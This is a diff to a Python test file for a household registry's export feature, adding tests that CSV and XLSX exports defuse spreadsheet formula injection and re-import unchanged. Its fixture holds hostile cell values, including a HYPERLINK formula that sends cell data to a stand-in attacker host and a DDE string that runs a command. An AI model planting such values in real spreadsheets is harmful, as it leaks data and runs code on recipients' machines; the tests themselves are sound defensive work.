@@ -6,17 +6,19 @@ import re
 from datetime import date
 
 import pytest
+from openpyxl import load_workbook
 from python_calamine import CalamineWorkbook
 from sqlalchemy import event
-from sqlmodel import select
+from sqlmodel import col, delete, select
 
 from app.core import clock
 from app.domain.identifiers import mask_id_number
-from app.models import AuditEvent, RegionLevel
+from app.models import AuditEvent, Household, Person, RegionLevel
 from app.routes import files
 from app.services import exports
 from app.services.households import HouseholdFilters
 from tests.factories import household, id_number, person, region, region_named, user_named
+from tests.sheets import HEADER, as_csv, person_row
 
 WANG = id_number("530402", "19800101", 123)
 
@@ -85,7 +87,6 @@ def test_a_lead_asking_for_full_numbers_still_gets_them_masked(as_user, homes):
 
 
 def test_an_export_can_be_imported_again_without_changes(as_user, db, homes):
-    from app.models import Person
     from tests.test_imports import upload
 
     client = as_user("alice")
@@ -262,3 +263,95 @@ def test_a_large_export_is_written_to_disk_and_sent_whole_in_pieces(
     township = region_named(db, "北城街道")
     plain = f"attachment; filename=households-unit{township.id}-{clock.today()}.csv; filename*="
     assert on_disk.headers["content-disposition"].startswith(plain)
+
+
+# --- safe to open ------------------------------------------------------------------------------
+
+# Texts Excel or WPS would run as a formula or a command, as a hostile list may bring them.
+HOSTILE = {
+    "住址": '=HYPERLINK("http://evil.example/?x="&B2,"查看")',
+    "村民小组": "=cmd|'/c calc'!A1",
+    "网格": "+1",
+    "户号": "-2+3",
+    "姓名": "@SUM(1)",
+}
+# Forms and imports trim a tab, but a stored text may begin with one.
+TABBED = "\t=1+1"
+
+
+@pytest.fixture
+def hostile(db):
+    home = household(
+        db,
+        address=HOSTILE["住址"],
+        village_group=HOSTILE["村民小组"],
+        grid=HOSTILE["网格"],
+        household_key=HOSTILE["户号"],
+    )
+    made = person(
+        db,
+        home,
+        name=HOSTILE["姓名"],
+        id_number=WANG,
+        insurance_status="resident",
+        resident_tier="200",
+        years_paid="15",
+    )
+    made.occupation = TABBED
+    db.add(made)
+    db.commit()
+
+
+def test_a_csv_export_puts_a_quote_before_every_text_that_could_run(as_user, hostile):
+    [wang] = exported(as_user("lee"), "/households/export.csv")
+    for column, text in {**HOSTILE, "从业情况": TABBED}.items():
+        assert wang[column] == "'" + text, column
+    assert (wang["缴费档次"], wang["缴费年限"]) == ("200", "15")
+
+
+def test_an_xlsx_export_holds_those_texts_as_text_never_as_formulas(as_user, hostile):
+    content = as_user("lee").get("/households/export.xlsx").content
+    header, wang = load_workbook(io.BytesIO(content)).active.iter_rows()
+    cells = {title.value: cell for title, cell in zip(header, wang, strict=True)}
+    for column, text in {**HOSTILE, "从业情况": TABBED}.items():
+        cell = cells[column]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), column
+    assert [cell.coordinate for cell in wang if cell.data_type == "f"] == []
+    assert (cells["缴费档次"].value, cells["姓名"].value) == ("200", "@SUM(1)")
+
+
+def registered(db) -> list[tuple]:
+    query = select(
+        Person.name,
+        Person.occupation,
+        Household.address,
+        Household.household_key,
+        Household.village_group,
+        Household.grid,
+    ).join(Household, col(Household.id) == Person.household_id)
+    return sorted(db.exec(query).all())
+
+
+@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
+def test_an_exported_list_imports_back_unchanged(as_user, db, suffix):
+    """A department's list with texts that could run is imported, exported, the registry
+    emptied and the export imported: the CSV's quotes come off again, the .xlsx's text cells
+    read as they were."""
+    from tests.test_imports import upload
+
+    header = [*HEADER, "村民小组", "网格", "从业情况"]
+    cells = {"address": HOSTILE["住址"], "key": HOSTILE["户号"], "groups": "", "subsidy": ""}
+    listed = person_row(name=HOSTILE["姓名"], number=WANG, **cells)
+    hostile = [*listed, HOSTILE["村民小组"], HOSTILE["网格"], "@打零工"]
+    client = as_user("alice")
+    upload(client, as_csv([hostile], header=header), dry_run=False)
+    before = registered(db)
+    assert before == [
+        ("@SUM(1)", "@打零工", *(HOSTILE[c] for c in ("住址", "户号", "村民小组", "网格")))
+    ]
+    content = client.get(f"/households/export.{suffix}?full=1").content
+    for table in (Person, Household):
+        db.exec(delete(table))
+    db.commit()
+    upload(client, content, filename=f"回导.{suffix}", dry_run=False)
+    assert registered(db) == before
